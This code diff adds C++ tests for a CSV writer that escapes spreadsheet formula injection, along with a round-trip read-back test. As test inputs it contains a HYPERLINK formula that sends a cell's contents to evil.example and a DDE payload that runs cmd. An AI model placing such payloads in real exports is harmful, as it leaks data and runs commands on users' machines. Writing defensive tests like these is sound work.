@@ -479,6 +479,43 @@ TEST_F(MappedFileTest, MapsAFile) {
   EXPECT_EQ(GoodRecords((*file)->data()), (std::vector<Fields>{{"a", "b"}, {"1", "2"}}));
 }
 
+TEST(CsvWriter, NeutralisesEveryFormulaStart) {
+  // OWASP's list: = + - @ tab and carriage return.
+  EXPECT_EQ(FormatField("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\"");
+  EXPECT_EQ(FormatField("@SUM(1+1)"), "\"'@SUM(1+1)\"");
+  EXPECT_EQ(FormatField("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
+  EXPECT_EQ(FormatField("-2+3"), "\"'-2+3\"");
+  EXPECT_EQ(FormatField("\tx"), "\"'\tx\"");
+  EXPECT_EQ(FormatField("\rx"), "\"'\rx\"");
+  EXPECT_EQ(FormatField("plain"), "plain");
+  EXPECT_EQ(FormatField("a=b"), "a=b");  // only the first character starts a formula
+  EXPECT_EQ(FormatField("a,b"), "\"a,b\"");
+  EXPECT_EQ(FormatField("say \"hi\""), "\"say \"\"hi\"\"\"");
+  EXPECT_EQ(FormatField(""), "");
+}
+
+TEST(CsvWriter, RowsReadBackThroughTheReaderAndUnneutralise) {
+  const std::vector<std::string> row = {"=1+1", "a,b", "line\nbreak", "-", "'=kept", "x"};
+  std::string text;
+  AppendRow(&text, row);
+  AppendRow(&text, {"second"});
+  EXPECT_EQ(text.substr(text.size() - 8), "second\r\n");
+  Reader r(text);
+  Record rec;
+  std::string err;
+  ASSERT_EQ(r.Read(&rec, &err), Next::kRecord);
+  ASSERT_EQ(rec.fields.size(), row.size());
+  for (size_t i = 0; i < row.size(); ++i) {
+    EXPECT_EQ(std::string_view("=+-@\t\r").find(rec.fields[i][0]), std::string_view::npos)
+        << rec.fields[i];
+    EXPECT_EQ(Unneutralise(rec.fields[i]), row[i]);
+  }
+  EXPECT_EQ(FormatField("'=kept"), "\"''=kept\"");
+  EXPECT_EQ(Unneutralise("'name"), "'name");  // an apostrophe before a letter is the user's
+  EXPECT_EQ(Unneutralise("'"), "'");
+}
+
 TEST_F(MappedFileTest, MapsAnEmptyFile) {
   std::string path = Path("empty.csv");
   std::ofstream(path, std::ios::binary).flush();
